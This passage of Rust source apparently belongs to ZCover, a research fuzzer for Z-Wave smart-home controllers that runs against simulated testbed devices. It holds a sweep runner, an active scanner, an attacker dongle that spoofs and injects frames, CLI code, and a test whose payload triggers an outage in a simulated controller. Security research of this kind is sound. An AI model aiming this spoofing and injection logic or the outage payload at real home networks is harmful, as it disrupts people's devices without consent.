/// summary (real seconds are not reproducible; everything in
/// [`SweepSummary`] is).
#[derive(Debug, Clone)]
pub struct SweepTiming {
    /// Real seconds each shard took, in shard order.
    pub per_shard_s: Vec<f64>,
    /// Real seconds for the whole sweep.
    pub total_s: f64,
    /// Homes swept (copied so rates need no second argument).
    pub homes: u64,
}

impl SweepTiming {
    /// Aggregate throughput in homes per real second.
    pub fn homes_per_sec(&self) -> f64 {
        self.homes as f64 / self.total_s.max(f64::EPSILON)
    }
}

/// One home's campaign distilled to what the shard merge needs, plus the
/// scheduler kernel handed back for the next home to recycle.
struct HomeRun {
    bug_ids: Vec<u8>,
    counters: CampaignCounters,
    channel: MediumStats,
    coverage: CoverageMap,
    kernel: zwave_radio::SimScheduler,
}

/// Builds home `home` and runs its full campaign (fingerprint, scan,
/// discovery, fuzzing) against a fresh attacker stack. With recording
/// enabled, the home's journal goes to its own `.zct` file; the recorder
/// is a pure observer, so the campaign (and every aggregate) is
/// bit-identical with or without it.
fn run_home(
    config: &SweepConfig,
    home: u64,
    kernel: Option<&zwave_radio::SimScheduler>,
) -> Result<HomeRun, ZCoverError> {
    let seed = config.home_seed(home);
    let mut net = match kernel {
        // Recycle the shard's wheel + event arena instead of building a
        // kernel per home; the simulation is bit-identical either way.
        Some(kernel) => {
            HomeNetwork::new_recycled(config.home_model(home), config.topology, seed, kernel)
        }
        None => HomeNetwork::new(config.home_model(home), config.topology, seed),
    };
    let fuzz = FuzzConfig { seed, ..config.base.clone() };
    let recorder = config.record.as_ref().map(|spec| {
        let meta = TraceMeta {
            device: config.home_model(home).idx().to_string(),
            seed,
            config: spec.config_name.clone(),
            impairment: fuzz.impairment,
            budget: fuzz.testing_duration,
            scenario: fuzz.scenario,
        };
        TraceRecorder::attach(net.medium(), meta)
    });
    let mut zcover = ZCover::attach(&net, 70.0);
    let campaign = match recorder {
        None => zcover.run_campaign(&mut net, fuzz)?.campaign,
        Some(mut recorder) => {
            let campaign = zcover.run_campaign_with_sink(&mut net, fuzz, &mut recorder)?.campaign;
            let spec = config.record.as_ref().expect("recorder implies spec");
            recorder
                .finish(&campaign)
                .save(&spec.home_path(home))
                .map_err(|e| ZCoverError::TraceIo(e.to_string()))?;
            campaign
        }
    };
    Ok(HomeRun {
        bug_ids: campaign.findings.iter().map(|f| f.bug_id).collect(),
        counters: campaign.counters,
        channel: net.medium().stats(),
        coverage: net.coverage(),
        kernel: net.medium().scheduler().clone(),
    })
}

/// Runs one shard's homes sequentially in home-index order. An error
/// carries the failing home index so the cross-shard merge can surface
/// the lowest-indexed failure regardless of scheduling.
fn run_shard(config: &SweepConfig, shard: u64) -> Result<(ShardSummary, f64), (u64, ZCoverError)> {
    let first_home = shard * config.shard_size.max(1);
    let end = (first_home + config.shard_size.max(1)).min(config.homes);
    let started = Instant::now();
    let mut summary = ShardSummary::empty(shard, first_home);
    // One wheel + arena per shard: the first home allocates it, every
    // later home recycles it (reset, not reallocated).
    let mut kernel: Option<zwave_radio::SimScheduler> = None;
    for home in first_home..end {
        let run = run_home(config, home, kernel.as_ref()).map_err(|e| (home, e))?;
        kernel = Some(run.kernel);
        let mut seen = run.bug_ids;
        seen.sort_unstable();
        seen.dedup();
        for bug in seen {
            *summary.hit_counts.entry(bug).or_default() += 1;
        }
        summary.counters.merge(&run.counters);
        summary.channel.merge(&run.channel);
        summary.coverage.merge(&run.coverage);
        summary.homes += 1;
    }
    Ok((summary, started.elapsed().as_secs_f64()))
}

/// Runs the sweep across `executor`'s worker pool and merges shard
/// aggregates in shard order. The summary is bit-identical for any
/// worker count; only [`SweepTiming`] varies between runs.
///
/// # Errors
///
/// When a home's fingerprinting phase fails, returns the error of the
/// lowest-indexed failing home (independent of scheduling).
pub fn run_sweep(
    executor: &CampaignExecutor,
    config: &SweepConfig,
) -> Result<(SweepSummary, SweepTiming), ZCoverError> {
    let sweep_started = Instant::now();
    let results = executor.map_indexed(config.shard_count(), |shard| run_shard(config, shard));

    let mut shards = Vec::with_capacity(results.len());
    let mut per_shard_s = Vec::with_capacity(results.len());
    let mut failure: Option<(u64, ZCoverError)> = None;
    for outcome in results {
        match outcome {
            Ok((summary, elapsed)) => {
                shards.push(summary);
                per_shard_s.push(elapsed);
            }
            Err((home, error)) => {
                if failure.as_ref().is_none_or(|(h, _)| home < *h) {
                    failure = Some((home, error));
                }
            }
        }
    }
    if let Some((_, error)) = failure {
        return Err(error);
    }

    let mut counters = CampaignCounters::default();
    let mut channel = MediumStats::default();
    let mut hit_counts: BTreeMap<u8, u64> = BTreeMap::new();
    let mut coverage = CoverageMap::new();
    for shard in &shards {
        counters.merge(&shard.counters);
        channel.merge(&shard.channel);
        for (bug, homes) in &shard.hit_counts {
            *hit_counts.entry(*bug).or_default() += homes;
        }
        coverage.merge(&shard.coverage);
    }

    let summary = SweepSummary {
        homes: config.homes,
        topology: config.topology,
        shard_size: config.shard_size.max(1),
        mode: config.base.mode,
        scenario: config.base.scenario,
        impairment: config.base.impairment,
        shards,
        counters,
        channel,
        hit_counts,
        coverage_edges: coverage.edges(),
    };
    let timing = SweepTiming {
        per_shard_s,
        total_s: sweep_started.elapsed().as_secs_f64(),
        homes: config.homes,
    };
    Ok((summary, timing))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    fn tiny(homes: u64, topology: Topology) -> SweepConfig {
        SweepConfig::new(homes, topology, FuzzConfig::full(Duration::from_secs(30), 11))
            .with_shard_size(2)
    }

    #[test]
    fn shard_boundaries_are_a_pure_function_of_the_config() {
        let config = tiny(5, Topology::Star);
        assert_eq!(config.shard_count(), 3);
        assert_eq!(SweepConfig::new(0, Topology::Star, config.base.clone()).shard_count(), 0);
        // Model rotation covers the whole Table II population.
        let models: Vec<_> = (0..7).map(|h| config.home_model(h)).collect();
        assert_eq!(models, DeviceModel::all().to_vec());
        assert_eq!(config.home_model(7), DeviceModel::all()[0]);
    }

    #[test]
    fn sweep_summary_is_worker_count_invariant() {
        let config = tiny(5, Topology::Star);
        let (one, _) = run_sweep(&CampaignExecutor::new(1), &config).unwrap();
        let (four, _) = run_sweep(&CampaignExecutor::new(4), &config).unwrap();
        assert_eq!(one, four);
        assert_eq!(one.shards.len(), 3);
        assert_eq!(one.shards.iter().map(|s| s.homes).sum::<u64>(), 5);
        assert!(one.counters.packets_sent > 0);
        assert!(one.coverage_edges > 0);
    }

    #[test]
    fn hit_counts_count_homes_not_findings() {
        let config = tiny(3, Topology::Star);
        let (summary, timing) = run_sweep(&CampaignExecutor::new(1), &config).unwrap();
        for homes in summary.hit_counts.values() {
            assert!(*homes <= summary.homes);
        }
        assert!(summary.hit_rate(0xFF) == 0.0);
        assert_eq!(timing.per_shard_s.len(), 2);
        assert!(timing.homes_per_sec() > 0.0);
    }
}

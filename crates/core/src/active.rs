//! Phase 1b — active scanning (Section III-B2).
//!
//! Using the network properties from passive scanning, the active scanner
//! interrogates the target controller: a device-state probe confirms the
//! target answers, a NIF request retrieves the *listed* supported command
//! classes, and response analysis builds the initial profile.

use zwave_protocol::nif::{encode_nif_request, NodeInfoFrame};
use zwave_protocol::{CommandClassId, MacFrame};

use crate::dongle::Dongle;
use crate::passive::ScanReport;
use crate::target::FuzzTarget;

/// The controller profile assembled by active scanning.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ActiveScanReport {
    /// Classes the controller advertises in its NIF (15 or 17 on the
    /// testbed devices, Table IV).
    pub listed: Vec<CommandClassId>,
    /// Whether the device-state interrogation got a response.
    pub interrogation_ok: bool,
}

/// The active scanner.
#[derive(Debug)]
pub struct ActiveScanner;

impl ActiveScanner {
    /// Runs the three active-scanning steps against the controller
    /// identified in `scan`. Returns `None` when the controller never
    /// answered the NIF request.
    pub fn scan<T: FuzzTarget>(
        target: &mut T,
        dongle: &mut Dongle,
        scan: &ScanReport,
    ) -> Option<ActiveScanReport> {
        let src = scan.spoof_source();

        // 1. Dynamic device interrogation: a Basic Get device-state probe.
        dongle.flush();
        dongle.inject_apl(scan.home_id, src, scan.controller, vec![0x20, 0x02]);
        target.pump();
        dongle.wait_for_responses();
        target.pump();
        let interrogation_ok = dongle
            .drain()
            .iter()
            .filter_map(|f| MacFrame::decode(&f.bytes).ok())
            .any(|m| !m.is_ack() && m.src() == scan.controller);

        // 2. Listed property querying via a NIF request (retransmitted a
        //    few times so channel loss cannot blank the fingerprint), then
        // 3. response analysis: extract the listed classes from the NIF.
        let mut listed = None;
        for _attempt in 0..6 {
            dongle.flush();
            dongle.inject_apl(scan.home_id, src, scan.controller, encode_nif_request());
            target.pump();
            dongle.wait_for_responses();
            target.pump();
            listed = dongle
                .drain()
                .iter()
                .filter_map(|f| MacFrame::decode(&f.bytes).ok())
                .filter(|m| m.src() == scan.controller && !m.is_ack())
                .find_map(|m| NodeInfoFrame::decode(m.payload()).ok())
                .map(|nif| nif.supported);
            if listed.is_some() {
                break;
            }
        }

        Some(ActiveScanReport { listed: listed?, interrogation_ok })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::passive::PassiveScanner;
    use zwave_controller::testbed::{DeviceModel, Testbed};

    fn fingerprint(model: DeviceModel) -> ActiveScanReport {
        let mut tb = Testbed::new(model, 21);
        let mut scanner = PassiveScanner::new(tb.medium(), 70.0);
        tb.exchange_normal_traffic();
        let scan = scanner.analyze().unwrap();
        let mut dongle = Dongle::attach(tb.medium(), 70.0);
        ActiveScanner::scan(&mut tb, &mut dongle, &scan).unwrap()
    }

    #[test]
    fn d4_lists_17_cmdcls() {
        // "controller D4 listed only 17 CMDCLs" (Section III-B2).
        let report = fingerprint(DeviceModel::D4);
        assert_eq!(report.listed.len(), 17);
        assert!(report.interrogation_ok);
    }

    #[test]
    fn d5_lists_15_cmdcls() {
        let report = fingerprint(DeviceModel::D5);
        assert_eq!(report.listed.len(), 15);
    }

    #[test]
    fn listed_classes_exclude_proprietary_ones() {
        let report = fingerprint(DeviceModel::D1);
        assert!(!report.listed.contains(&CommandClassId::ZWAVE_PROTOCOL));
        assert!(!report.listed.contains(&CommandClassId::ZENSOR_NET));
        assert!(report.listed.contains(&CommandClassId::SECURITY_2));
    }
}

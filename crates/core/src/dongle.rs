//! The attacker's transceiver dongle: the simulated YARD Stick One that
//! sniffs, crafts and injects Z-Wave frames (design assumption of Section
//! III-A: ZCover "operates externally using specialized hardware").

use std::time::Duration;

use zwave_protocol::frame::{FrameControl, HeaderType};
use zwave_protocol::{ChecksumKind, HomeId, MacFrame, NodeId, RoutingHeader};
use zwave_radio::{FrameBuf, FrameBufPool, Medium, RxFrame, SimClock, Transceiver};

/// Default time the dongle waits for a device response after injecting.
/// Chosen so the paper's observed campaign rate (~800 packets in ~600 s,
/// Section IV-B2) is reproduced.
pub const DEFAULT_RESPONSE_WAIT: Duration = Duration::from_millis(350);

/// The attacker-side radio with spoofing and liveness-probe support.
#[derive(Debug)]
pub struct Dongle {
    radio: Transceiver,
    clock: SimClock,
    seq: u8,
    response_wait: Duration,
    frames_injected: u64,
    retransmissions: u64,
    /// Repeater chain (forwarding order) prepended to every injected APL
    /// frame as a source-routing header. `None` = direct range.
    route: Option<Vec<NodeId>>,
    last_frame: Option<FrameBuf>,
    /// Scratch buffers for frame encoding: each injection reuses a retired
    /// allocation once the receivers have dropped their clones, so the
    /// fuzzing hot loop stops allocating a fresh `Vec` per trial packet.
    pool: FrameBufPool,
}

/// Outcome of a liveness ping.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PingOutcome {
    /// The target MAC-acked the NOP within the wait window.
    Alive,
    /// No acknowledgement: the target is hung, busy, or down.
    Unresponsive,
}

impl Dongle {
    /// Attaches the dongle to `medium` at `position_m` metres (the paper's
    /// attacker operates from 10-70 m away).
    pub fn attach(medium: &Medium, position_m: f64) -> Self {
        let radio = medium.attach(position_m);
        radio.set_promiscuous(true);
        Dongle {
            radio,
            clock: medium.clock().clone(),
            seq: 0,
            response_wait: DEFAULT_RESPONSE_WAIT,
            frames_injected: 0,
            retransmissions: 0,
            route: None,
            last_frame: None,
            pool: FrameBufPool::new(),
        }
    }

    /// Overrides the per-packet response wait.
    pub fn set_response_wait(&mut self, wait: Duration) {
        self.response_wait = wait;
    }

    /// The per-packet response wait.
    pub fn response_wait(&self) -> Duration {
        self.response_wait
    }

    /// Total frames injected so far.
    pub fn frames_injected(&self) -> u64 {
        self.frames_injected
    }

    /// Total link-layer retransmissions performed so far.
    pub fn retransmissions(&self) -> u64 {
        self.retransmissions
    }

    /// Sets the repeater chain injected APL frames ride to the target
    /// (forwarding order), or clears it. On a multi-hop topology the
    /// controller is out of the attacker's direct range, so every crafted
    /// frame must carry a source-routing header naming live repeaters —
    /// exactly what a real attacker learns by sniffing routed traffic.
    /// An empty chain is normalised to `None`.
    pub fn set_route(&mut self, route: Option<Vec<NodeId>>) {
        self.route = route.filter(|r| !r.is_empty());
    }

    /// The currently configured injection route, if any.
    pub fn route(&self) -> Option<&[NodeId]> {
        self.route.as_deref()
    }

    /// Crafts and injects an application payload as `src` → `dst` with a
    /// valid checksum (ZCover always sends MAC-valid frames; only the APL
    /// content is fuzzed, per Table I).
    pub fn inject_apl(&mut self, home_id: HomeId, src: NodeId, dst: NodeId, payload: Vec<u8>) {
        self.seq = (self.seq + 1) & 0x0F;
        let mut fc = FrameControl::singlecast(self.seq);
        fc.sequence = self.seq;
        let payload = match &self.route {
            None => payload,
            Some(route) => {
                // Ride the mesh: routing header first, fuzzed APL after.
                fc.header_type = HeaderType::Routed;
                let mut routed = RoutingHeader::outbound(route.clone()).encode();
                routed.extend_from_slice(&payload);
                routed
            }
        };
        let Ok(frame) = MacFrame::try_new(home_id, src, fc, dst, payload, ChecksumKind::Cs8) else {
            return; // oversized mutants are silently clamped by the caller
        };
        let mut buf = self.pool.acquire();
        frame.encode_into(buf.make_mut());
        self.send_buf(buf);
    }

    /// Injects raw bytes verbatim (the VFuzz-style MAC-mutation path and
    /// replay attacks use this).
    pub fn inject_raw(&mut self, bytes: &[u8]) {
        let mut buf = self.pool.acquire();
        buf.make_mut().extend_from_slice(bytes);
        self.send_buf(buf);
    }

    /// Transmits `buf`, retires the previously held frame's allocation to
    /// the scratch pool, and keeps `buf` for byte-identical retransmission.
    fn send_buf(&mut self, buf: FrameBuf) {
        self.radio.transmit_buf(&buf);
        if let Some(old) = self.last_frame.replace(buf) {
            self.pool.retire(old);
        }
        self.frames_injected += 1;
    }

    /// G.9959-style retransmission: resends the last injected frame
    /// *byte-identically* (same sequence number), so a receiver whose ack
    /// was lost recognises the copy as a duplicate instead of reprocessing
    /// it. Returns `false` when nothing has been injected yet.
    pub fn retransmit_last(&mut self) -> bool {
        let Some(frame) = &self.last_frame else {
            return false;
        };
        // A resend is a ref-count bump per receiver, never a copy.
        self.radio.transmit_buf(frame);
        self.retransmissions += 1;
        true
    }

    /// Advances virtual time by the response-wait window.
    pub fn wait_for_responses(&self) {
        self.clock.advance(self.response_wait);
    }

    /// Drains all frames captured by the dongle.
    pub fn drain(&self) -> Vec<RxFrame> {
        self.radio.drain()
    }

    /// Drops any stale captures.
    pub fn flush(&self) {
        let _ = self.radio.drain();
    }

    /// Sends a NOP liveness ping spoofed as `src` and reports whether the
    /// target acked — the crash-verification probe of Section IV-A. The
    /// caller must pump the target between injection and the check, so the
    /// probe is split: [`Dongle::send_ping`] then [`Dongle::check_ping`].
    pub fn send_ping(&mut self, home_id: HomeId, src: NodeId, dst: NodeId) {
        self.flush();
        self.inject_apl(home_id, src, dst, vec![0x00]);
    }

    /// Checks captures for the MAC ack answering a previous
    /// [`Dongle::send_ping`].
    pub fn check_ping(&self, target: NodeId) -> PingOutcome {
        let acked = self.drain().iter().any(|f| {
            MacFrame::decode(&f.bytes).map(|m| m.is_ack() && m.src() == target).unwrap_or(false)
        });
        if acked {
            PingOutcome::Alive
        } else {
            PingOutcome::Unresponsive
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use zwave_controller::testbed::{DeviceModel, Testbed};

    #[test]
    fn ping_detects_liveness_and_outage() {
        let mut tb = Testbed::new(DeviceModel::D1, 5);
        let home = tb.controller().home_id();
        let mut dongle = Dongle::attach(tb.medium(), 70.0);

        dongle.send_ping(home, NodeId(0x03), NodeId(0x01));
        tb.pump();
        assert_eq!(dongle.check_ping(NodeId(0x01)), PingOutcome::Alive);

        // Trigger bug #07 (68 s outage) and ping again.
        dongle.inject_apl(home, NodeId(0x03), NodeId(0x01), vec![0x5A, 0x01, 0x00]);
        tb.pump();
        dongle.send_ping(home, NodeId(0x03), NodeId(0x01));
        tb.pump();
        assert_eq!(dongle.check_ping(NodeId(0x01)), PingOutcome::Unresponsive);

        // After the outage the controller answers again.
        tb.clock().advance(Duration::from_secs(69));
        dongle.send_ping(home, NodeId(0x03), NodeId(0x01));
        tb.pump();
        assert_eq!(dongle.check_ping(NodeId(0x01)), PingOutcome::Alive);
    }

    #[test]
    fn injection_counts_and_oversize_clamp() {
        let tb = Testbed::new(DeviceModel::D1, 5);
        let mut dongle = Dongle::attach(tb.medium(), 70.0);
        dongle.inject_apl(tb.controller().home_id(), NodeId(2), NodeId(1), vec![0x20, 0x01]);
        assert_eq!(dongle.frames_injected(), 1);
        // A payload beyond the MAC limit is refused, not panicked on.
        dongle.inject_apl(tb.controller().home_id(), NodeId(2), NodeId(1), vec![0u8; 60]);
        assert_eq!(dongle.frames_injected(), 1);
    }

    #[test]
    fn wait_advances_virtual_time() {
        let tb = Testbed::new(DeviceModel::D1, 5);
        let dongle = Dongle::attach(tb.medium(), 70.0);
        let t0 = tb.clock().now();
        dongle.wait_for_responses();
        assert_eq!(tb.clock().now().duration_since(t0), DEFAULT_RESPONSE_WAIT);
    }
}

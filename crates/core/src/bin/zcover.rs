//! The `zcover` command-line tool: run any phase of the analysis against a
//! simulated testbed device.
//!
//! ```text
//! zcover fingerprint --device D4
//! zcover discover    --device D4
//! zcover fuzz        --device D1 --hours 1 --seed 42 --config full
//! zcover fuzz        --device D1 --config beta --log bugs.txt
//! zcover fuzz        --device D1 --hours 0.02 --record trace.jsonl
//! zcover fuzz        --device D1 --mode coverage --hours 1
//! zcover fuzz        --device D1 --scenario s0-no-more --hours 0.02
//! zcover trials      --device D1 --trials 5 --workers 4 --hours 1
//! zcover trials      --device D1 --mode vfuzz --trials 5 --hours 1
//! zcover sweep       --homes 10000 --topology mesh --workers 4
//! zcover sweep       --homes 256 --topology line --mode coverage --format json
//! zcover sweep       --homes 64 --record-dir traces/
//! zcover replay      trace.jsonl
//! zcover replay      trace.zct
//! zcover trace export trace.zct --out trace.jsonl
//! zcover trace stats  traces/home0.zct traces/home1.zct
//! zcover export-spec --out zw_classes.xml
//! ```

use std::path::Path;
use std::time::Duration;

use zcover::{
    run_sweep, ActiveScanner, BugLog, CampaignExecutor, FuzzConfig, ImpairmentProfile, Scenario,
    SweepConfig, SweepRecord, Trace, TraceSpec, TraceStats, UnknownDiscovery, ZCover,
    DEFAULT_SHARD_SIZE,
};
use zwave_controller::testbed::{DeviceModel, Testbed};
use zwave_controller::Topology;

fn parse_device(args: &[String]) -> DeviceModel {
    let idx = flag(args, "--device").unwrap_or_else(|| "D1".to_string());
    DeviceModel::all().into_iter().find(|m| m.idx().eq_ignore_ascii_case(&idx)).unwrap_or_else(
        || {
            eprintln!("unknown device {idx}; expected D1..D7");
            std::process::exit(2);
        },
    )
}

fn flag(args: &[String], name: &str) -> Option<String> {
    args.iter().position(|a| a == name).and_then(|i| args.get(i + 1)).cloned()
}

fn parse_topology(args: &[String]) -> Topology {
    let name = flag(args, "--topology").unwrap_or_else(|| "mesh".to_string());
    Topology::parse(&name).unwrap_or_else(|| {
        eprintln!("unknown topology {name}; expected star|line|mesh");
        std::process::exit(2);
    })
}

fn parse_impairment(args: &[String]) -> ImpairmentProfile {
    let name = flag(args, "--impairment").unwrap_or_else(|| "clean".to_string());
    ImpairmentProfile::parse(&name).unwrap_or_else(|| {
        eprintln!("unknown impairment profile {name}; expected clean|lossy|bursty|adversarial");
        std::process::exit(2);
    })
}

fn parse_scenario(args: &[String]) -> Scenario {
    let name = flag(args, "--scenario").unwrap_or_else(|| "none".to_string());
    Scenario::parse(&name).unwrap_or_else(|| {
        eprintln!("unknown scenario {name}; expected none|s0-no-more|crushing-the-wave");
        std::process::exit(2);
    })
}

/// The canonical configuration name selected by `--mode` / `--config`
/// (also recorded in trace headers so `zcover replay` can rebuild the
/// configuration). `--mode zcover` (the default) defers to `--config`;
/// the coverage and vfuzz engines are whole configurations of their own.
fn config_name(args: &[String]) -> String {
    match flag(args, "--mode").as_deref() {
        None | Some("zcover") => flag(args, "--config").unwrap_or_else(|| "full".to_string()),
        Some(mode @ ("coverage" | "vfuzz")) => {
            if flag(args, "--config").is_some() {
                eprintln!("--config only applies to --mode zcover");
                std::process::exit(2);
            }
            mode.to_string()
        }
        Some(other) => {
            eprintln!("unknown mode {other}; expected zcover|vfuzz|coverage");
            std::process::exit(2);
        }
    }
}

/// Builds the fuzz configuration from `--mode`, `--config`, and
/// `--impairment` (the plumbing `fuzz` and `trials` share).
fn parse_config(args: &[String], budget: Duration, seed: u64) -> FuzzConfig {
    let name = config_name(args);
    let config = FuzzConfig::named(&name, budget, seed).unwrap_or_else(|| {
        eprintln!("unknown config {name}; expected full|beta|gamma|no-priority|no-plans");
        std::process::exit(2);
    });
    config.with_impairment(parse_impairment(args)).with_scenario(parse_scenario(args))
}

/// Whether `--format json` selects machine-readable output (default:
/// text, which stays byte-identical to the pre-flag behaviour).
fn json_output(args: &[String]) -> bool {
    match flag(args, "--format").as_deref() {
        None | Some("text") => false,
        Some("json") => true,
        Some(other) => {
            eprintln!("unknown format {other}; expected text|json");
            std::process::exit(2);
        }
    }
}

/// Reads and decodes a trace file in either format (auto-detected by
/// content, not extension). Any damage exits with status 2 after naming
/// the byte offset or line of the fault *and* whatever the CRC-protected
/// header still says — so a truncated `.zct` is still attributable to its
/// campaign. Returns the raw bytes too, so callers can name event loci in
/// the original file.
fn load_trace(path: &str) -> (Vec<u8>, Trace) {
    let bytes = std::fs::read(path).unwrap_or_else(|e| {
        eprintln!("{path}: {e}");
        std::process::exit(2);
    });
    let trace = Trace::from_bytes(&bytes).unwrap_or_else(|e| {
        eprintln!("{path}: {e}");
        match zcover::describe_header(&bytes) {
            Some(header) => eprintln!("{path}: header: {header}"),
            None => eprintln!("{path}: header undecodable"),
        }
        std::process::exit(2);
    });
    (bytes, trace)
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let command = args.first().map(String::as_str).unwrap_or("help");
    let seed: u64 = flag(&args, "--seed").and_then(|s| s.parse().ok()).unwrap_or(42);

    match command {
        "fingerprint" => {
            let model = parse_device(&args);
            let mut tb = Testbed::new(model, seed);
            let mut zc = ZCover::attach(&tb, 70.0);
            let scan = zc.fingerprint(&mut tb).expect("no traffic observed");
            let active = ActiveScanner::scan(&mut tb, zc.dongle_mut(), &scan)
                .expect("controller did not answer the NIF request");
            println!(
                "device:     {} {}",
                tb.controller().config().brand,
                tb.controller().config().model
            );
            println!("home id:    {}", scan.home_id);
            println!("controller: {}", scan.controller);
            println!(
                "slaves:     {:?}",
                scan.slaves.iter().map(|n| n.to_string()).collect::<Vec<_>>()
            );
            println!("listed CMDCLs ({}):", active.listed.len());
            for cc in &active.listed {
                println!("  {cc}");
            }
        }
        "discover" => {
            let model = parse_device(&args);
            let mut tb = Testbed::new(model, seed);
            let mut zc = ZCover::attach(&tb, 70.0);
            let scan = zc.fingerprint(&mut tb).expect("no traffic observed");
            let active = ActiveScanner::scan(&mut tb, zc.dongle_mut(), &scan)
                .expect("controller did not answer the NIF request");
            let discovery = UnknownDiscovery::run(&mut tb, zc.dongle_mut(), &scan, active.listed);
            println!(
                "listed: {}  spec-unlisted: {}  proprietary: {:?}",
                discovery.listed.len(),
                discovery.unlisted_from_spec.len(),
                discovery.proprietary.iter().map(|c| c.to_string()).collect::<Vec<_>>()
            );
            println!("prioritized fuzzing queue:");
            for (rank, cc) in discovery.prioritized_targets().iter().enumerate() {
                let name = zwave_protocol::Registry::global()
                    .get(*cc)
                    .map(|s| s.name)
                    .unwrap_or("<proprietary>");
                println!("  {:>2}. {} {}", rank + 1, cc, name);
            }
        }
        "fuzz" => {
            let model = parse_device(&args);
            let hours: f64 = flag(&args, "--hours").and_then(|s| s.parse().ok()).unwrap_or(1.0);
            let budget = Duration::from_secs_f64(hours * 3600.0);
            let config = parse_config(&args, budget, seed);
            let profile = config.impairment;
            let json = json_output(&args);
            eprintln!(
                "fuzzing {} for {hours}h virtual (seed {seed}, channel {profile}) ...",
                model.idx()
            );
            let (report, mut tb) = match flag(&args, "--record") {
                Some(path) => {
                    let rec = zcover::record_campaign(model, &config_name(&args), config)
                        .expect("fingerprinting failed");
                    rec.trace.save(Path::new(&path)).expect("writing the trace file");
                    eprintln!("trace recorded to {path} ({} events)", rec.trace.events.len());
                    (rec.report, rec.testbed)
                }
                None => {
                    let mut tb = Testbed::new(model, seed);
                    let mut zc = ZCover::attach(&tb, 70.0);
                    let report = zc.run_campaign(&mut tb, config).expect("fingerprinting failed");
                    (report, tb)
                }
            };
            if let Some(path) = flag(&args, "--report") {
                let label = format!(
                    "{} {} ({})",
                    tb.controller().config().brand,
                    tb.controller().config().model,
                    model.idx()
                );
                std::fs::write(&path, zcover::report::to_markdown(&report, &label))
                    .expect("writing the assessment report");
                eprintln!("assessment report written to {path}");
            }
            if json {
                println!("{}", zcover::report::campaign_to_json(&report.campaign));
            } else {
                println!(
                    "{} packets, {} CMDCLs covered, {} unique vulnerabilities:",
                    report.campaign.packets_sent,
                    report.campaign.cmdcl_coverage.len(),
                    report.campaign.unique_vulns()
                );
                let c = report.campaign.counters;
                println!(
                    "counters: {} packets, {} plans, {} outages, {} findings",
                    c.packets_sent, c.plans_executed, c.outages_observed, c.findings
                );
                println!(
                    "channel:  {} losses, {} dups, {} reorders, {} truncations, \
                     {} blackout drops, {} retransmissions, {} ack timeouts",
                    c.losses,
                    c.duplicates,
                    c.reorders,
                    c.truncations,
                    c.blackout_drops,
                    c.retransmissions,
                    c.ack_timeouts
                );
            }
            let mut log = BugLog::new();
            for fault in tb.controller_mut().fault_log().records() {
                log.record(fault, 0);
            }
            let text = log.to_text();
            if !json {
                println!("{text}");
            }
            if let Some(path) = flag(&args, "--log") {
                std::fs::write(&path, &text).expect("writing the bug log");
                eprintln!("bug log written to {path}");
            }
        }
        "trials" => {
            let model = parse_device(&args);
            let hours: f64 = flag(&args, "--hours").and_then(|s| s.parse().ok()).unwrap_or(1.0);
            let trials: u64 =
                flag(&args, "--trials").and_then(|s| s.parse().ok()).unwrap_or(5).max(1);
            let workers: usize = flag(&args, "--workers").and_then(|s| s.parse().ok()).unwrap_or(1);
            let budget = Duration::from_secs_f64(hours * 3600.0);
            let config = parse_config(&args, budget, seed);
            let profile = config.impairment;
            let json = json_output(&args);
            let executor = CampaignExecutor::new(workers);
            eprintln!(
                "running {trials} trials of {hours}h on {} across {} worker(s) \
                 (campaign seed {seed}, channel {profile}) ...",
                model.idx(),
                executor.workers()
            );
            let trace_spec = flag(&args, "--record").map(|prefix| TraceSpec {
                device: model.idx().to_string(),
                config_name: config_name(&args),
                prefix: prefix.into(),
            });
            let summary = executor
                .run_with_trace(
                    trials,
                    seed,
                    |trial_seed| Testbed::new(model, trial_seed),
                    &config,
                    trace_spec.as_ref(),
                )
                .expect("fingerprinting failed");
            if let Some(spec) = &trace_spec {
                eprintln!(
                    "per-trial traces recorded to {} .. {}",
                    spec.trial_path(0).display(),
                    spec.trial_path(trials - 1).display()
                );
            }
            if json {
                println!("{}", zcover::report::summary_to_json(&summary));
                if let Some(path) = flag(&args, "--log") {
                    let mut log = BugLog::new();
                    for finding in &summary.unique_findings {
                        log.absorb(finding);
                    }
                    std::fs::write(&path, log.to_text()).expect("writing the bug log");
                    eprintln!("merged bug log written to {path}");
                }
                return;
            }
            println!(
                "{} trials merged: union of {} unique vulnerabilities {:?}",
                summary.trials(),
                summary.union_bug_ids.len(),
                summary.union_bug_ids
            );
            println!("stable core (found in all trials): {:?}", summary.found_in_all_trials());
            println!(
                "mean per trial: {:.0} packets, {:.1} unique vulnerabilities",
                summary.mean_packets,
                summary.mean_unique_vulns()
            );
            let c = summary.counters;
            println!(
                "counters: {} packets, {} plans, {} outages, {} findings",
                c.packets_sent, c.plans_executed, c.outages_observed, c.findings
            );
            println!(
                "channel:  {} losses, {} dups, {} reorders, {} truncations, \
                 {} blackout drops, {} retransmissions, {} ack timeouts",
                c.losses,
                c.duplicates,
                c.reorders,
                c.truncations,
                c.blackout_drops,
                c.retransmissions,
                c.ack_timeouts
            );
            println!("per-bug hit counts (bug id: trials that found it):");
            for (bug, hits) in &summary.hit_counts {
                let mean_t = summary
                    .mean_time_to_find(*bug)
                    .map(|d| format!("{:.0} s", d.as_secs_f64()))
                    .unwrap_or_else(|| "-".to_string());
                println!("  {bug:02}: {hits}/{} (mean time to find {mean_t})", summary.trials());
            }
            if let Some(path) = flag(&args, "--log") {
                let mut log = BugLog::new();
                for finding in &summary.unique_findings {
                    log.absorb(finding);
                }
                std::fs::write(&path, log.to_text()).expect("writing the bug log");
                eprintln!("merged bug log written to {path}");
            }
        }
        "sweep" => {
            let homes: u64 = flag(&args, "--homes").and_then(|s| s.parse().ok()).unwrap_or(64);
            let topology = parse_topology(&args);
            // A short per-home budget is the whole point of a sweep:
            // breadth over depth. 180 virtual seconds survives discovery,
            // the high-priority classes, and a couple of outage recoveries
            // on every Table II model — enough for several bug classes
            // per home while 10 000 homes still sweep in about a minute.
            let hours: f64 = flag(&args, "--hours").and_then(|s| s.parse().ok()).unwrap_or(0.05);
            let workers: usize = flag(&args, "--workers").and_then(|s| s.parse().ok()).unwrap_or(1);
